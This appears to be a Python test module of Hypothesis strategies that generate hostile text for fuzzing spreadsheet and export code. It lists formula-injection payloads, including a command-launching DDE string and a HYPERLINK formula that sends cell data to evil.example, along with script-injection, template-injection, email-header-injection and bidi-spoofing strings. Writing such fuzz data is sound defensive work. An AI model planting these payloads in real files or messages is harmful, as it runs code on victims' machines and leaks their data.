"""Text nobody means well with: what breaks files, deceives readers, or makes a cell compute."""

from hypothesis import strategies as st

LONGEST = 100_000

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\n=",
    "'=",
    "''=",
    "'",
)
"""What a spreadsheet may take for the beginning of a formula, or an apostrophe for nothing."""

SAMPLES = (
    "",
    " ",
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+1";=1+1;"',
    "-2+3\r\n=1+1",
    "'=1",
    "''+1",
    "a\x00b\x01\x08\x0b\x0c\x1f\x7f\x80\x85\x9f",
    "half \ud83d and \udc00 other half",
    "\ud83d\ude00",
    "no characters \ufffe \uffff",
    "\U0001fffe\U0010ffff",
    "\ufeff bom",
    "\u202eexe.doc\u202c \u2066x\u2069 \u202a\u202b\u202d\u2067\u2068",
    "\u200f\u200e\u061c",
    "zero\u200bwidth\u200d\u2060\u00ad",
    "e\u0301 e\u0301\u0323 ﬁ Å Å ß SS İ ı",
    "שלום مرحبا 你好 🙂👩‍👩‍👧🇪🇸",
    "line\u2028separator\u2029paragraph",
    "one\rtwo\r\nthree\n\nfour\n",
    "\n" * 300,
    "<script>alert(1)</script>",
    "]]><![CDATA[ &amp; &#0; <!-- -- -->",
    "{{ 7*7 }} {% raw %} ${7*7} %(name)s %s {0} {",
    '&P&N&A&"Arial"&K000000 & && &L',
    "Sheet'1!A1:[x]*?/\\",
    "History",
    "x" * 30 + "'y",
    "🙂" * 40,
    "_x0041_ _x005F_ _x000A_ __x0041_",
    '"quoted", semi;colon,\ttab',
    '",",\r\n"',
    "\\",
    "\\n \\, \\;",
    "END:VEVENT\r\nATTACH:x",
    "Acme\r\nBcc: all@victim.example",
    "=?utf-8?q?=0D=0ABcc:_x?=",
    "Not recorded",
    "No entry",
    "\n▸ goes on in the sheet “Notes”, row 2",
    "null",
    "true",
    "1e5",
    "0001",
    "javascript:alert(1)",
    "https://x.example/\u202e\ud800",
    "https://[::1",
    "http://x.example/\x00\n=1",
)

_EDGES = (252, 253, 254, 32_766, 32_767, 32_768, 65_536, LONGEST)
_UNITS = ("x", "é", "🙂", "=", "\n", "ab\n", "word ", "_x0041_", "\x00", "&")

_ANY = st.text(st.characters(codec=None), max_size=40)  # halves of characters included
_NASTY = st.text(st.sampled_from("\x00\r\n\t\x85\u2028\u202e\ufffe\ud800'\"=+-@,;&<>\\_x041 ~é"))


@st.composite
def _long(draw: st.DrawFn) -> str:
    unit, edge = draw(st.sampled_from(_UNITS)), draw(st.sampled_from(_EDGES))
    return (unit * (edge // len(unit) + 1))[:edge]


_SHORT = st.one_of(
    st.sampled_from(SAMPLES),
    _ANY,
    _NASTY,
    st.builds(str.__add__, st.sampled_from(STARTS), _ANY),
)


@st.composite
def hostile_texts(draw: st.DrawFn) -> list[str]:
    """Return a few hostile texts; now and then one of them is too long for a cell."""
    some = draw(st.lists(_SHORT, min_size=1, max_size=12))
    return [draw(_long()), *some] if draw(st.integers(0, 7)) == 7 else some
